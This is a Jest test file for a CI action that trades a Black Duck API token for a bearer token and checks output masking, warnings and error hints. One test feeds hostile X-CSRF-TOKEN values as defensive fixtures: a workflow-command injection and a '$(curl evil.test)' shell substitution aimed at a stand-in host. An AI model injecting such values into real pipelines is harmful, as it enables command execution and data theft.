// Black Duck through the action's inputs and outputs: the API token for a bearer token, its lifetime in
// milliseconds, the X-CSRF-TOKEN answer header as the masked csrf-token output, and refusals.
import nock from 'nock'
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
import { createJob, expectOnlyMasked, type Job } from './support/action.js'
import { expectNoUnexpectedRequest } from './support/requests.js'

const SERVER = 'https://blackduck.acme.test'
const API_TOKEN = 'ZDk3YjQ0MzItYmQ2Yy00NjE5LTg0ZjgtNWM2ZmY3ZmYxMTQ4OmM2ZTk='
const CSRF = '0b2f8d6a-7e1c-4e4f-9d3a-2b9c1e5f7a10'
const BEARER = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJkZW1vIn0.c2lnbmF0dXJl'
const inputs = { vendor: 'black-duck', 'base-url': SERVER, 'api-token': API_TOKEN }

let job: Job
beforeEach(() => {
  job = createJob()
})
afterEach(() => job.dispose())

describe('black-duck token request', () => {
  it('posts no body with Authorization: token; reads bearerToken, milliseconds and X-CSRF-TOKEN', async () => {
    const api = nock(SERVER)
      .post('/api/tokens/authenticate', (body) => body === '')
      .matchHeader('authorization', `token ${API_TOKEN}`)
      .reply(200, { bearerToken: BEARER, expiresInMilliseconds: 7199000 }, { 'X-CSRF-TOKEN': CSRF })

    const result = await job.main(inputs)

    expect(result.error).toBe('')
    api.done()
    expect(result.outputs).toMatchObject({
      token: BEARER,
      'token-type': 'Bearer',
      'expires-in': '7199',
      'csrf-token': CSRF,
      user: ''
    })
    expect(result.env).toEqual({ BLACK_DUCK_ACCESS_TOKEN: BEARER })
    expect(result.warnings).toEqual([])
    // Black Duck documents no revocation: the state keeps only a hash of the token.
    expect(result.state['revoke-token']).toBeUndefined()
    expectOnlyMasked(result, [API_TOKEN, `token ${API_TOKEN}`, BEARER, CSRF])
  })

  it('a lifetime that is not a whole second is floored', async () => {
    nock(SERVER).post('/api/tokens/authenticate').reply(200, { bearerToken: BEARER, expiresInMilliseconds: 1999 })
    const result = await job.main(inputs)
    expect(result.error).toBe('')
    expect(result.outputs['expires-in']).toBe('1')
  })

  it('without an X-CSRF-TOKEN header, csrf-token is empty and nothing is said', async () => {
    nock(SERVER).post('/api/tokens/authenticate').reply(200, { bearerToken: BEARER, expiresInMilliseconds: 7199000 })
    const result = await job.main(inputs)
    expect(result.error).toBe('')
    expect(result.outputs['csrf-token']).toBe('')
    expect(result.warnings).toEqual([])
  })

  it.each([
    ['a workflow command', '::set-output name=x::y'],
    ['shell syntax', '$(curl evil.test)'],
    ['an over-long value', 'a'.repeat(257)]
  ])('an X-CSRF-TOKEN with %s is left out with a warning that never quotes it', async (_, csrf) => {
    nock(SERVER)
      .post('/api/tokens/authenticate')
      .reply(200, { bearerToken: BEARER, expiresInMilliseconds: 7199000 }, { 'X-CSRF-TOKEN': csrf })
    const result = await job.main(inputs)
    expect(result.error).toBe('')
    expect(result.outputs['csrf-token']).toBe('')
    expect(result.warnings).toEqual([
      'Black Duck answered with an X-CSRF-TOKEN that is not up to 256 letters, digits and -._~+/, then any =; the csrf-token output is left empty.'
    ])
    expect(result.stdout).not.toContain(csrf)
  })

  it('an answer without bearerToken names the field', async () => {
    nock(SERVER).post('/api/tokens/authenticate').reply(200, { access_token: 'x' })
    const result = await job.main(inputs)
    expect(result.error).toBe("Black Duck answered without a token: the response has no 'bearerToken' string.")
  })
})

describe('black-duck inputs and refusals', () => {
  it('base-url is required, with an example', async () => {
    const result = await job.main({ vendor: 'black-duck', 'api-token': API_TOKEN })
    expect(result.error).toBe(
      "Input 'base-url': is required for vendor 'black-duck': your platform's URL, e.g. https://blackduck.example.com."
    )
    expectNoUnexpectedRequest()
  })

  it('an empty api-token says why a secret is empty', async () => {
    const result = await job.main({ vendor: 'black-duck', 'base-url': SERVER })
    expect(result.error).toBe(
      "Input 'api-token': is required for vendor 'black-duck', and it is empty. A secret is empty when it is unset, " +
        'misspelled, scoped to an environment this job does not use, or withheld (pull requests from forks and ' +
        'Dependabot runs get no secrets).'
    )
    expectNoUnexpectedRequest()
  })

  it.each([
    [
      401,
      'Check api-token: a Black Duck user API token (My Access Tokens in the user menu), not expired or deleted, for the server in base-url.'
    ],
    [
      403,
      'The API token was refused: check that its user is active and the token has the access it needs (read, or read and write), on the server in base-url.'
    ],
    [404, 'The token endpoint was not found: check base-url.']
  ])('HTTP %i is explained', async (status, hint) => {
    nock(SERVER).post('/api/tokens/authenticate').reply(status, { errorMessage: 'no' })
    const result = await job.main(inputs)
    expect(result.error).toBe(
      `Black Duck refused the token request (POST blackduck.acme.test/api/tokens/authenticate): HTTP ${status}. ${hint}`
    )
    expectOnlyMasked(result, [API_TOKEN])
  })
})
